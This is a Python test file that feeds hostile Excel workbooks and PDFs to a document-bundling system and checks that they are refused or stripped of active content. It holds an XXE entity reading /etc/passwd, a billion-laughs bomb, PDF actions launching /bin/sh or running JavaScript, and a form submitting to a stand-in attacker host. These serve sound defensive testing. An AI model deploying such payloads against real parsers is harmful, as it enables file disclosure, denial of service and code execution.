"""Hostile workbooks and papers from outside: read as text or refused in a sentence, no danger."""

from __future__ import annotations

import io
import zipfile
import zlib
from collections.abc import Callable
from datetime import UTC, datetime
from pathlib import Path

import pypdfium2
import pytest
from openpyxl import Workbook
from pypdf import PdfReader, PdfWriter
from pypdf.generic import (
    ArrayObject,
    DecodedStreamObject,
    DictionaryObject,
    FloatObject,
    NameObject,
    NumberObject,
    StreamObject,
    TextStringObject,
)

from exports.evidence.pdf_merge import OutsidePage, PdfPart, filled, readable_pages
from exports.typesetting.bundle import Bundle
from exports.typesetting.document_builder import DocumentBuilder
from exports.typesetting.fonts import choose_font
from exports.typesetting.pdf_canvas import PdfMetadata
from models.errors import KmError
from models.staff_list.tables import StaffTable, read_staff

ROWS = [["ชื่อ - สกุล", "ตำแหน่ง"], ["นายสมชาย ใจดี", "ครู"], ["นางสมศรี ใจงาม", "ครู"]]


def a_workbook(change: Callable[[Workbook], object] = lambda _book: None) -> bytes:
    book = Workbook()
    for row in ROWS:
        book.active.append(row)
    change(book)
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def repacked(content: bytes, part: str, change: Callable[[bytes], bytes]) -> bytes:
    """The workbook with one of its parts changed."""
    out = io.BytesIO()
    packed_again = zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED)
    with zipfile.ZipFile(io.BytesIO(content)) as old, packed_again as new:
        for name in old.namelist():
            kept = old.read(name)
            new.writestr(name, change(kept) if name == part else kept)
    return out.getvalue()


SHEET = "xl/worksheets/sheet1.xml"
LAUGHS = (
    b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "ha">'
    + b"".join(b'<!ENTITY %c "%s">' % (98 + n, b"&%c;" % (97 + n) * 10) for n in range(12))
    + b"]>"
)
OUTSIDE = b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]>'


def with_entity(head: bytes, name: bytes) -> Callable[[bytes], bytes]:
    def change(sheet: bytes) -> bytes:
        body = sheet.partition(b"?>")[2] if sheet.startswith(b"<?xml") else sheet
        return head + body.replace(b"</sheetData>", b"<!-- -->&" + name + b";</sheetData>", 1)

    return change


def with_merge(ref: bytes) -> Callable[[bytes], bytes]:
    merged = b'</sheetData><mergeCells count="1"><mergeCell ref="' + ref + b'"/></mergeCells>'
    return lambda sheet: sheet.replace(b"</sheetData>", merged)


def in_cell(place: str, value: str) -> Callable[[Workbook], object]:
    return lambda book: book.active.__setitem__(place, value)


WORKBOOKS: dict[str, tuple[Callable[[], bytes], str]] = {
    # What it is, and what is said of it: nothing where it is read.
    "sound": (a_workbook, ""),
    "a stray cell in the last row and column": (
        lambda: a_workbook(in_cell("XFD1048576", "  ")),
        "",
    ),
    "a word far below the list": (lambda: a_workbook(in_cell("A1048576", "จบ")), "แถว"),
    "everything merged": (
        lambda: repacked(a_workbook(), SHEET, with_merge(b"A1:XFD1048576")),
        "",
    ),
    "a title merged over its columns": (
        lambda: repacked(a_workbook(), SHEET, with_merge(b"A1:A1")),
        "",
    ),
    "a billion laughs": (
        lambda: repacked(a_workbook(), SHEET, with_entity(LAUGHS, b"m")),
        "เปิดแฟ้ม",
    ),
    "a file of the machine": (
        lambda: repacked(a_workbook(), SHEET, with_entity(OUTSIDE, b"a")),
        "",
    ),
    "a part of 200 MB of blanks": (
        lambda: repacked(a_workbook(), SHEET, lambda sheet: sheet + b" " * (201 << 20)),
        "ใหญ่ผิดปกติ",
    ),
    "cut in the middle": (lambda: a_workbook()[:2000], "เปิดแฟ้ม"),
    "no workbook in the zip": (lambda: repacked(b"PK\x05\x06" + bytes(18), "", bytes), "เปิดแฟ้ม"),
    "no zip": (lambda: b"<html>x</html>", "เปิดแฟ้ม"),
    "empty": (lambda: b"", "เปิดแฟ้ม"),
    "a sheet that is no XML": (
        lambda: repacked(a_workbook(), SHEET, lambda _sheet: b"\x00\xff<<<"),
        "เปิดแฟ้ม",
    ),
    "a cell whose place is nowhere": (
        lambda: repacked(a_workbook(), SHEET, lambda sheet: sheet.replace(b'r="A2"', b'r="-?9"')),
        "เปิดแฟ้ม",
    ),
}


@pytest.mark.parametrize("name", WORKBOOKS)
def test_a_hostile_workbook_is_read_as_text_or_refused_in_a_sentence(
    tmp_path: Path, name: str
) -> None:
    make, said = WORKBOOKS[name]
    file = tmp_path / "staff.xlsx"
    file.write_bytes(make())
    told, table = "", None
    try:
        table = read_staff(file)
    except KmError as refusal:
        told = str(refusal)
    assert said in told if said else True
    assert bool(said) == bool(told) or name == "a file of the machine"
    if isinstance(table, StaffTable):
        assert [row.name for row in table.rows] == ["นายสมชาย ใจดี", "นางสมศรี ใจงาม"]
        assert "root:" not in repr(table)


def a_paper(change: Callable[[PdfWriter], object] = lambda _writer: None) -> bytes:
    writer = PdfWriter()
    writer.add_blank_page(595, 842)
    change(writer)
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def action(kind: str, **more: object) -> DictionaryObject:
    return DictionaryObject(
        {NameObject("/S"): NameObject(kind)}
        | {NameObject(f"/{key}"): value for key, value in more.items()}
    )


RUN = action("/Launch", F=TextStringObject("/bin/sh"))
SCRIPT = action("/JavaScript", JS=TextStringObject("app.alert(1)"))
WEB = action("/URI", URI=TextStringObject("https://example.go.th"), Next=SCRIPT)
FORM = action("/SubmitForm", F=TextStringObject("https://evil.example"))


def mark(subtype: str, **more: object) -> Callable[[PdfWriter], object]:
    """A mark on the first page."""

    def add(writer: PdfWriter) -> None:
        made = DictionaryObject(
            {
                NameObject("/Type"): NameObject("/Annot"),
                NameObject("/Subtype"): NameObject(subtype),
                NameObject("/Rect"): ArrayObject(map(FloatObject, (10, 10, 50, 50))),
            }
            | {NameObject(f"/{key}"): value for key, value in more.items()}
        )
        page = writer.pages[0]
        page[NameObject("/Annots")] = ArrayObject([writer._add_object(made)])

    return add


def of_page(key: str, value: object) -> Callable[[PdfWriter], object]:
    return lambda writer: writer.pages[0].__setitem__(NameObject(key), value)


def packed(length: int) -> Callable[[PdfWriter], object]:
    """Contents that unpack to so many bytes."""

    def add(writer: PdfWriter) -> None:
        squeeze = zlib.compressobj(9)
        data = b"".join(squeeze.compress(b" " * (1 << 20)) for _ in range(length >> 20))
        stream = StreamObject()
        stream._data = data + squeeze.flush()
        stream[NameObject("/Filter")] = NameObject("/FlateDecode")
        writer.pages[0][NameObject("/Contents")] = writer._add_object(stream)

    return add


def carrying(writer: PdfWriter) -> None:
    writer.add_attachment("virus.exe", b"MZ")
    mark("/FileAttachment", FS=DecodedStreamObject())(writer)


def opens_by_itself(writer: PdfWriter) -> None:
    writer.root_object[NameObject("/OpenAction")] = SCRIPT
    writer.root_object[NameObject("/AA")] = DictionaryObject({NameObject("/WC"): RUN})


def its_own_child(writer: PdfWriter) -> None:
    pages = writer.root_object["/Pages"].get_object()
    pages["/Kids"].append(writer.root_object.raw_get("/Pages"))
    pages[NameObject("/Count")] = NumberObject(1_000_000)


def locked(writer: PdfWriter) -> None:
    writer.encrypt("secret")


PAPERS: dict[str, tuple[Callable[[], bytes], bool]] = {
    # What it is, and whether it is bound.
    "sound": (a_paper, True),
    "script and program at opening": (lambda: a_paper(opens_by_itself), True),
    "program behind a link": (lambda: a_paper(mark("/Link", A=RUN)), True),
    "script behind a field": (lambda: a_paper(mark("/Widget", AA=SCRIPT, A=FORM)), True),
    "script after a link": (lambda: a_paper(mark("/Link", A=WEB)), True),
    "script of the page": (lambda: a_paper(of_page("/AA", SCRIPT)), True),
    "a file it carries": (lambda: a_paper(carrying), True),
    "a film it carries": (lambda: a_paper(mark("/RichMedia")), True),
    "marks that are none": (lambda: a_paper(of_page("/Annots", NumberObject(7))), True),
    "contents that unpack to 256 MB": (lambda: a_paper(packed(256 << 20)), False),
    "a page tree in itself": (lambda: a_paper(its_own_child), False),
    "locked": (lambda: a_paper(locked), False),
    "cut in the middle": (lambda: a_paper()[:150], False),
    "empty": (lambda: b"", False),
    "a web page": (lambda: b"<html>x</html>", False),
}
DANGERS = (b"/JavaScript", b"/JS", b"/Launch", b"/AA", b"/SubmitForm", b"/OpenAction")
CARRIED = (b"/EmbeddedFile", b"/FileAttachment", b"/RichMedia", b"MZ")


@pytest.mark.parametrize("name", PAPERS)
def test_a_hostile_pdf_is_bound_without_active_content_or_refused(name: str) -> None:
    make, is_bound = PAPERS[name]
    sheaf = readable_pages("จากภายนอก", make())
    assert bool(sheaf.page_count) == is_bound, sheaf.fault
    if not is_bound:
        assert sheaf.fault
        return
    content = bound_with(sheaf)
    plain = b"".join(parts_of(content))
    assert not [each for each in (*DANGERS, *CARRIED) if each in plain]
    assert len(pypdfium2.PdfDocument(content)) == 2
    if name == "script after a link":
        assert b"https://example.go.th" in plain


def bound_with(sheaf: PdfPart) -> bytes:
    """A cover of ours, and the paper's pages behind it."""
    about = PdfMetadata("แฟ้ม", "เทศบาล", datetime(2020, 10, 1, tzinfo=UTC), "แฟ้ม", False)
    own = DocumentBuilder(choose_font(folders=[]), about)
    own.write("ปก")
    bundle = Bundle(own, str)
    pages = [OutsidePage(bundle.empty_page(), sheaf, page) for page in range(sheaf.page_count)]
    return filled(own.finish(), pages)


def parts_of(content: bytes) -> list[bytes]:
    """Every object of a PDF, unpacked."""
    reader = PdfReader(io.BytesIO(content))
    found = [repr(reader.trailer).encode()]
    # Numbers of objects have gaps: those that nothing names any more are left out.
    for number in range(1, int(reader.trailer["/Size"])):
        made = reader.get_object(number)
        found.append(repr(made).encode())
        if isinstance(made, StreamObject):
            found.append(made.get_data())
    return found
